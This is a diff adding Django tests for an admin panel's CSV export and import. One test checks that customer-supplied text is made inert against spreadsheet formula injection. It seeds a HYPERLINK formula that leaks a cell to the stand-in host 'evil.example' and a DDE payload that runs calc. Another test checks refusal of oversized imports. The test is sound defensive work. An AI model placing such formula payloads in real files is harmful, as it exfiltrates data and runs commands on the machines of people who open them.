@@ -6,7 +6,7 @@ from django.core.files.uploadedfile import SimpleUploadedFile
 
 from accounts.models import ChangeRecord, Line
 from tests.admin.factories import make_charge
-from tests.factories import make_line, make_package
+from tests.factories import make_line, make_package, make_user
 
 IMPORT = "/admin/accounts/line/import/"
 
@@ -67,3 +67,50 @@ def test_export_lines_and_customers(support_client, customer, line):
     assert line.iccid in lines.content.decode()
     users = client.post("/admin/accounts/user/", {"action": "export_customers_csv", "_selected_action": [customer.pk], "index": 0})
     assert "alice@example.com" in users.content.decode()
+
+
+def test_admin_exports_neutralise_spreadsheet_formulas_in_customer_text(support_client, line, package):
+    client, _user = support_client
+    evil = '=HYPERLINK("http://evil.example/?"&A1,"click")'
+    customer = make_user(email="formula@example.com", name=evil)
+    evil_line = make_line(owner=customer, label="x")
+    charge = make_charge(user=customer, line=evil_line, package=package, failure_message="+cmd|' /C calc'!A0",
+                         status="failed")
+    exports = [
+        client.post("/admin/accounts/user/", {"action": "export_customers_csv", "_selected_action": [customer.pk], "index": 0}),
+        client.post("/admin/payments/charge/", {"action": "export_charges_csv", "_selected_action": [charge.pk], "index": 0}),
+    ]
+    for response in exports:
+        rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
+        cells = [cell for row in rows[1:] for cell in row]
+        assert not [cell for cell in cells if cell[:1] in ("=", "+", "-", "@")], cells
+    users = list(csv.reader(io.StringIO(exports[0].content.decode("utf-8-sig"))))
+    assert users[1][3] == "'" + evil  # still readable, no longer a formula
+    charges = list(csv.reader(io.StringIO(exports[1].content.decode("utf-8-sig"))))
+    assert charges[1][12] == "'+cmd|' /C calc'!A0"  # the failure reason as the processor wrote it, made inert
+
+
+def _padded_import(size: int) -> str:
+    """A valid CSV of 50 good rows padded with an ignored column to `size` bytes."""
+    header = "iccid,smdp_address,matching_id,note\n"
+    rows = [f"8986000000000000{n:04d},smdp.example.com,PAD-{n}," for n in range(50)]
+    pad = (size - len(header) - sum(len(r) + 1 for r in rows)) // len(rows)
+    text = header + "".join(f"{r}{'x' * pad}\n" for r in rows)
+    return text + "x" * (size - len(text.encode()))  # a last stray cell fills the exact size: row 52 is blank-ish
+
+
+def test_an_import_too_large_to_confirm_is_refused_at_preview_and_one_preview_accepts_imports(finance_client, settings):
+    client, _user = finance_client
+    limit = settings.DATA_UPLOAD_MAX_MEMORY_SIZE  # what one POST of the previewed text may carry
+    too_big = _padded_import(limit + 400_000)
+    preview = client.post(IMPORT, {"file": SimpleUploadedFile("big.csv", too_big.encode(), content_type="text/csv")})
+    assert preview.status_code == 200
+    page = preview.content.decode()
+    assert "The file is larger than" in page and "Import the good rows" not in page
+    fits = _padded_import(limit - 20_000)
+    preview = client.post(IMPORT, {"file": SimpleUploadedFile("fits.csv", fits.encode(), content_type="text/csv")})
+    assert "Import the good rows" in preview.content.decode()
+    # The browser sends the hidden text back with CRLF line ends, as forms do.
+    done = client.post(IMPORT, {"text": fits.replace("\n", "\r\n"), "confirm": "yes"})
+    assert done.status_code in (200, 302), done.status_code
+    assert Line.objects.filter(matching_id__startswith="PAD-").count() == 50
